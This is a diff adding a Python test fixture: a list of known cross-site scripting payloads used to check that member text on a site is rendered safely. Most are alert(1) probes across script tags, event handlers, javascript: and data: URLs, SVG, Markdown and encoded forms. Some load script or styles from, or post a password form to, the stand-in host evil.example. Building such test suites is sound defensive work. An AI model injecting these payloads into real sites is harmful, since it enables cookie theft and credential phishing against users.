@@ -1,0 +1,125 @@
+r"""Known cross-site scripting payloads, for putting member text through every page.
+
+Each is something a member could type into a title, a post, a reply, a
+content warning, their name, their bio or the search box. None holds NUL or
+another ASCII control character (the forms refuse those, tested elsewhere);
+tab and newline are allowed, and some payloads use them to split a scheme.
+
+Literal backslash escapes such as \u003c are written in raw strings: the
+member typed the backslash, not the character it stands for.
+"""
+
+B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
+
+XSS_VECTORS = [
+    # --- Script and style tags ------------------------------------------------
+    "<script>alert(1)</script>",
+    "<ScRiPt >alert(document.cookie)</sCrIpT >",
+    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
+    '<script src="data:text/javascript,alert(1)"></script>',
+    "<script>alert(String.fromCharCode(88,83,83))</script>",
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "';alert(1);//",
+    '<style>body{background:url("javascript:alert(1)")}</style>',
+    "<style>@import 'https://evil.example/x.css';</style>",
+    '<div style="background-image:url(javascript:alert(1))">x</div>',
+    '<p style="width:expression(alert(1))">x</p>',
+    # --- Event-handler attributes ---------------------------------------------
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" onerror="alert(1)"/>',
+    "<IMG SRC=x OnErRoR=alert(1)>",
+    "<img/src=x/onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    '<div onmouseover="alert(1)">hover me</div>',
+    "<input onfocus=alert(1) autofocus>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    '<a href="#" onclick="alert(1)">click</a>',
+    "<x onclick=alert(1)>click me",
+    '" onmouseover="alert(1)',
+    "' autofocus onfocus='alert(1)",
+    # --- javascript:, vbscript: and data: URLs --------------------------------
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href="  javascript:alert(1)">x</a>',
+    '<a href="java\tscript:alert(1)">x</a>',
+    '<a href="java\nscript:alert(1)">x</a>',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+    '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
+    '<a href="javascript&colon;alert(1)">x</a>',
+    '<a href="%6Aavascript:alert(1)">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    f'<a href="data:text/html;base64,{B64_SCRIPT}">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<form action="javascript:alert(1)"><button>go</button></form>',
+    '<button formaction="javascript:alert(1)">go</button>',
+    # --- SVG and MathML -------------------------------------------------------
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/></svg>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<math href="javascript:alert(1)">x</math>',
+    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
+    # --- Frames, objects and page-changing tags -------------------------------
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="javascript:alert(1)"></object>',
+    f'<embed src="data:text/html;base64,{B64_SCRIPT}">',
+    '<base href="https://evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<form action="https://evil.example/steal"><input name="password"></form>',
+    "<frameset onload=alert(1)>",
+    # --- Malformed and nested tags --------------------------------------------
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<<img src=x onerror=alert(1)//<",
+    '<img src="x onerror=alert(1)//',
+    '<img """><script>alert(1)</script>">',
+    '<a """ href="javascript:alert(1)">x</a>',
+    '<!--<img src="--><img src=x onerror=alert(1)//">',
+    "<![CDATA[<script>alert(1)</script>]]>",
+    '<p title="</p><img src=x onerror=alert(1)>">',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    # --- Template-injection-looking strings -----------------------------------
+    "{{7*7}}",
+    "{% debug %}",
+    "{{ request.user.password }}{% csrf_token %}",
+    "${7*7} #{7*7} <%= 7*7 %>",
+    "{{constructor.constructor('alert(1)')()}}",
+    # --- Markdown links and images --------------------------------------------
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&#58;alert(1))",
+    "![x](javascript:alert(1))",
+    f"[x](data:text/html;base64,{B64_SCRIPT})",
+    "[x](vbscript:msgbox(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x]( javascript:alert(1) )",
+    "[x](javascript://%0Aalert(1))",
+    "<javascript:alert(1)>",
+    "<vbscript:msgbox(1)>",
+    "[x][evil]\n\n[evil]: javascript:alert(1)",
+    '[x](https://example.org "\\"onmouseover=alert(1) x=\\"")',
+    '[x](https://example.org" onmouseover="alert(1))',
+    '![x](https://example.org/x.png" onerror="alert(1))',
+    "[<img src=x onerror=alert(1)>](https://example.org)",
+    "[x](https://example.org/?q=<script>alert(1)</script>)",
+    "```html\n<script>alert(1)</script>\n```",
+    # --- Encoded variants -----------------------------------------------------
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    r"\u003cscript\u003ealert(1)\u003c/script\u003e",
+    r"\x3cscript\x3ealert(1)\x3c/script\x3e",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+]
